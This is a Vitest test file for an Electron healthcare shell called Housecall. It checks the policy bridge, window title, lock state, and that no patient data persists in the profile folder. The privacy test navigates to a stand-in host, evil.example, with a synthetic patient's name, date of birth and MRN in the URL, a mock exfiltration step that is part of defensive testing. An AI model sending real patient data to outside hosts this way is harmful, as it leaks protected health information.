// Launches the real Electron shell (playwright-core _electron) for the managed-laptop checks: effective policy over the
// bridge, a fixed window title, the lock state, and no PHI anywhere in the user-data folder after patient strings were
// pushed through logging paths. Skips with the reason when the Electron runtime or the build is missing.
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { ElectronApplication, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findElectronRuntime, missingShellBuild } from './electron-runtime';

const repoRoot = path.resolve(import.meta.dirname, '../..');
const runtime = findElectronRuntime(repoRoot);
const skipReason = runtime.available ? missingShellBuild(repoRoot) : runtime.reason;
if (skipReason !== null) console.info(`[tests/electron] skipping managed-shell tests: ${skipReason}`);

const PATIENT = { name: 'Zebulon Quarterman-Vasquez', dob: '1937-11-23', mrn: 'MRN-88417263' };
const SEEDS = [PATIENT.name, 'Quarterman', PATIENT.dob, PATIENT.mrn];

type BridgeScope = { housecall: { invoke: (channel: string, request: unknown) => Promise<unknown> } };

/** Every file under `dir` (the whole profile: logs, Local Storage, Preferences, caches, crash dumps). */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return filesUnder(full);
    return entry.isFile() && statSync(full).size < 64 * 1024 * 1024 ? [full] : [];
  });
}

describe.skipIf(skipReason !== null)(`Managed Electron shell${skipReason === null ? '' : ` (skipped: ${skipReason})`}`, () => {
  let shell: ElectronApplication;
  let page: Page;
  let userDataDir: string;

  beforeAll(async () => {
    if (!runtime.available) throw new Error('unreachable: skipped without runtime');
    userDataDir = mkdtempSync(path.join(os.tmpdir(), 'housecall-managed-'));
    const { _electron } = await import('playwright-core');
    shell = await _electron.launch({
      executablePath: runtime.executablePath,
      args: [repoRoot, '--server-url=https://care.example.org', `--user-data-dir=${userDataDir}`],
      cwd: repoRoot,
    });
    page = await shell.firstWindow();
    await page.waitForLoadState('domcontentloaded');
  });

  afterAll(async () => {
    await shell?.close().catch(() => undefined);
    if (userDataDir) rmSync(userDataDir, { recursive: true, force: true });
  });

  it('answers policy:get-effective with every key, its value and its source', async () => {
    const answer = (await page.evaluate(() => (globalThis as unknown as BridgeScope).housecall.invoke('policy:get-effective', {}))) as {
      ok: boolean;
      value: { policy: Record<string, { value: unknown; source: string }> };
    };
    expect(answer.ok).toBe(true);
    expect(answer.value.policy.AutoLockMinutes).toMatchObject({ value: expect.any(Number), source: expect.any(String) });
    expect(answer.value.policy.ScreenCaptureProtection).toMatchObject({ value: expect.any(Boolean) });
  });

  it('keeps the window title "Housecall" whatever the page calls itself', async () => {
    await page.evaluate((name) => {
      document.title = `Chart — ${name}`;
    }, PATIENT.name);
    await page.waitForTimeout(200);
    const title = await shell.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getTitle());
    expect(title).toBe('Housecall');
  });

  it('reports the lock state and follows a lock request', async () => {
    const answers = await page.evaluate(async () => {
      const bridge = (globalThis as unknown as BridgeScope).housecall;
      return [await bridge.invoke('session:report', { event: 'started' }), await bridge.invoke('session:report', { event: 'lock-requested' }), await bridge.invoke('session:get-lock-state', {})];
    });
    expect(answers).toMatchObject([{ ok: true, value: { status: 'unlocked' } }, { ok: true, value: { status: 'locked' } }, { ok: true, value: { status: 'locked' } }]);
  });

  it('leaves no patient string anywhere in the user-data folder after pushing them through logging paths', async () => {
    await page.evaluate(async ({ name, dob, mrn }) => {
      const bridge = (globalThis as unknown as BridgeScope).housecall;
      const query = `name=${encodeURIComponent(name)}&dob=${dob}&mrn=${mrn}`;
      await bridge.invoke('notify:show', { kind: 'patient_checked_in', body: `${name} ${dob}` });
      await bridge.invoke(`chart:${name}`, { mrn });
      window.open(`https://evil.example/?${query}`);
      window.location.href = `https://evil.example/chart?${query}`;
    }, PATIENT);
    await page.waitForTimeout(500);
    await shell.close();
    const files = filesUnder(userDataDir);
    expect(files.some((file) => file.includes(`${path.sep}logs${path.sep}`))).toBe(true);
    for (const file of files) {
      const bytes = readFileSync(file);
      for (const seed of SEEDS) {
        expect(bytes.includes(Buffer.from(seed, 'utf8')), `${seed} in ${path.relative(userDataDir, file)}`).toBe(false);
        expect(bytes.includes(Buffer.from(seed, 'utf16le')), `${seed} (UTF-16) in ${path.relative(userDataDir, file)}`).toBe(false);
        expect(bytes.includes(Buffer.from(encodeURIComponent(seed), 'utf8')), `${seed} (URL-encoded) in ${path.relative(userDataDir, file)}`).toBe(false);
      }
    }
  });
});
